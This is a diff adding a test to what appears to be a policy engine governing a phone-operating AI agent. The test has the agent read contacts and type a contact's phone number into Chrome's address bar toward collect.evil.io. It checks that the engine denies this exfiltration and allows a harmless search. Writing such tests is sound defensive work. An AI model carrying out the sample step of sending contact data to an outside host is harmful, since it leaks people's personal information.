@@ -102,3 +102,16 @@ describe('share flows', () => {
     expect(decide(e2, g('a', 'd', { op: 'tap', app: 'com.whatsapp', target: { contentDesc: 'Send' } })).decision).toBe('allow');
   });
 });
+
+describe('browser address bar', () => {
+  it('carries what is typed into the URL to the host it opens', async () => {
+    const { decide, engine, gui: g, tool } = await import('../../../helpers/engine');
+    const e = engine();
+    decide(e, tool('a', 'read_contacts', {}), { result: [{ name: 'Ana Souza', phone: '+55 11 95555-0101' }] });
+    decide(e, g('a', 'd', { op: 'launch_app', app: 'com.android.chrome' }));
+    decide(e, g('a', 'd', { op: 'type', app: 'com.android.chrome', target: { resourceId: 'com.android.chrome:id/url_bar' }, text: 'collect.evil.io/?n=5511955550101' }));
+    expect(decide(e, g('a', 'd', { op: 'key', app: 'com.android.chrome', key: 'ENTER' }))).toMatchObject({ decision: 'deny', flows: [{ from: 'contacts', to: 'http:collect.evil.io' }] });
+    decide(e, g('a', 'd', { op: 'type', app: 'com.android.chrome', target: { resourceId: 'com.android.chrome:id/url_bar' }, text: 'weather tomorrow' }));
+    expect(decide(e, g('a', 'd', { op: 'key', app: 'com.android.chrome', key: 'ENTER' })).decision).toBe('allow');
+  });
+});
